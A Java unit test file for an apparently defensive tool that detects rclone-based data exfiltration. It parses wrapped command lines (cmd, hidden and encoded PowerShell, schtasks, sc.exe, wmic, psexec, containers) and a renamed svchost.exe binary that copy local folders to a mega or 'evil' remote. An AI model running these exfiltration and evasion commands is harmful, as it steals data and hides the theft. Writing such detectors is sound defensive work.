package exfilwatch.rclone;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class WrapperTest {

  @ParameterizedTest
  @CsvSource(
      delimiter = '!',
      quoteCharacter = '~',
      value = {
        "cmd.exe /c \"rclone copy \"C:\\a b\" mega:x\" ! cmd /c ! rclone|copy|C:\\a b|mega:x",
        "C:\\Windows\\System32\\cmd.exe /Q /c cd C:\\t&&rclone copy C:\\a mega:x 2>&1 > C:\\l"
            + " ! cmd /c ! rclone|copy|C:\\a|mega:x",
        "cmd /crclone copy C:\\a mega:x ! cmd /c ! rclone|copy|C:\\a|mega:x",
        "cmd /c r^cl^one c^opy C:\\a mega:x ! cmd /c ! rclone|copy|C:\\a|mega:x",
        "powershell -Command \"& 'C:\\T\\rclone.exe' copy 'C:\\My Docs' mega:x\""
            + " ! powershell -Command ! C:\\T\\rclone.exe|copy|C:\\My Docs|mega:x",
        "powershell.exe -nop -w hidden -ep bypass rclone copy C:\\d mega:x"
            + " ! powershell -Command ! rclone|copy|C:\\d|mega:x",
        "powershell -c \"Start-Process C:\\t\\rclone.exe -ArgumentList 'copy','C:\\d','m:x' -Wait\""
            + " ! powershell -Command > Start-Process ! C:\\t\\rclone.exe|copy|C:\\d|m:x",
        "sh -c 'rclone copy /a \"/b c\" ; true' ! sh -c ! rclone|copy|/a|/b c",
        "bash -lc 'cd /t && X=1 ./rclone copy /a b:' ! bash -c ! ./rclone|copy|/a|b:",
        "sudo -u svc -- rclone copy /a b: ! sudo ! rclone|copy|/a|b:",
        "sudo nohup nice -n 19 timeout -k 5 1h time -p rclone copy /a b:"
            + " ! sudo > nohup > nice > timeout > time ! rclone|copy|/a|b:",
        "env -i A=b RCLONE_X=y rclone copy /a b: ! env ! rclone|copy|/a|b:",
        "start \"x\" /b /d C:\\t rclone.exe copy C:\\d b: ! start ! rclone.exe|copy|C:\\d|b:",
        "schtasks /create /tn u /tr \"C:\\t\\rclone.exe copy C:\\d mega:x\" /sc daily"
            + " ! schtasks ! C:\\t\\rclone.exe|copy|C:\\d|mega:x",
        "sc.exe create s binPath= \"C:\\t\\rclone.exe copy C:\\d mega:x\" start= auto"
            + " ! sc ! C:\\t\\rclone.exe|copy|C:\\d|mega:x",
        "wmic process call create \"cmd /c rclone copy C:\\d mega:x\""
            + " ! wmic > cmd /c ! rclone|copy|C:\\d|mega:x",
        "psexec \\\\h -u d\\a -p pw -s rclone.exe copy C:\\d mega:x"
            + " ! psexec ! rclone.exe|copy|C:\\d|mega:x",
        "at 12:00 \"rclone copy C:\\d mega:x\" ! at ! rclone|copy|C:\\d|mega:x",
        "docker run --rm -v /d:/data rclone/rclone:1.70 copy /data b:x"
            + " ! docker run ! rclone|copy|/data|b:x",
        "podman run -it ghcr.io/rclone/rclone copy /data b:x"
            + " ! podman run ! rclone|copy|/data|b:x",
        "systemd-run -u job --on-calendar=daily rclone copy /a b:"
            + " ! systemd-run ! rclone|copy|/a|b:",
        "conhost.exe --headless C:\\t\\rclone.exe copy C:\\d b:"
            + " ! conhost ! C:\\t\\rclone.exe|copy|C:\\d|b:",
        "flatpak-spawn --host rclone copy /a b: ! flatpak-spawn ! rclone|copy|/a|b:",
        "kubectl run x --image=rclone/rclone -- copy /a b: ! kubectl ! rclone|copy|/a|b:",
      })
  void isTakenOff(String line, String wrapper, String argv) {
    Explanation explanation = Rclone.explain(line, null, null, Map.of());
    assertThat(explanation.verdict()).isEqualTo(Explanation.Verdict.RUNS);
    assertThat(explanation.wrapper()).isEqualTo(wrapper);
    assertThat(explanation.argv()).isEqualTo(List.of(argv.split("\\|", -1)));
  }

  @ParameterizedTest
  @ValueSource(strings = {"-e", "-ec", "-en", "-enc", "-EncodedCommand", "/e", "-eNCOD"})
  void encodedCommandsAreRead(String option) {
    byte[] script = "rclone copy C:\\d mega:x -P".getBytes(StandardCharsets.UTF_16LE);
    String line =
        "powershell.exe -NoP " + option + " " + Base64.getEncoder().encodeToString(script);
    Explanation explanation = Rclone.explain(line, null, null, Map.of());
    assertThat(explanation.wrapper()).isEqualTo("powershell -EncodedCommand");
    assertThat(explanation.argv()).isEqualTo(List.of("rclone", "copy", "C:\\d", "mega:x", "-P"));
    assertThat(explanation.invocation().direction()).isEqualTo(Direction.UPLOAD);
    assertThat(explanation.invocation().hiding()).contains("encoded_command");
    assertThat(GrammarPrecheck.cannotBeRclone(line)).isFalse();
  }

  @Test
  void variablesOfTheScriptConfigureTheRemote() {
    Explanation explanation =
        Rclone.explain(
            "cmd /c \"set RCLONE_CONFIG_EVIL_TYPE=mega&& set RCLONE_CONFIG_EVIL_USER=u@example.test"
                + "&& svchost.exe copy C:\\d evil:x --transfers 8\"",
            null,
            null,
            Map.of());
    assertThat(explanation.invocation().destination().backend()).isEqualTo("mega");
    assertThat(explanation.invocation().identities()).containsEntry("user", "u@example.test");
    assertThat(explanation.invocation().hiding()).contains("renamed", "config_in_environment");
  }

  @Test
  void argumentsOfAVendorAreNeverSplitAgain() {
    List<String> args = List.of("sudo", "rclone", "copy", "/a b", "c:d e");
    Explanation explanation = Rclone.explain("", Os.POSIX, args, Map.of());
    assertThat(explanation.argv()).isEqualTo(List.of("rclone", "copy", "/a b", "c:d e"));
  }

  @Test
  void windowsRunsAnUnquotedPathButRcloneSplitsItAtTheBlank() {
    Explanation explanation =
        Rclone.explain("C:\\Program Files\\rclone\\rclone.exe copy a b", null, null, Map.of());
    assertThat(explanation.verdict()).isEqualTo(Explanation.Verdict.REJECTED);
    assertThat(explanation.argv()).startsWith("C:\\Program", "Files\\rclone\\rclone.exe");
    assertThat(explanation.invocation().command()).isEqualTo("copy");
  }
}
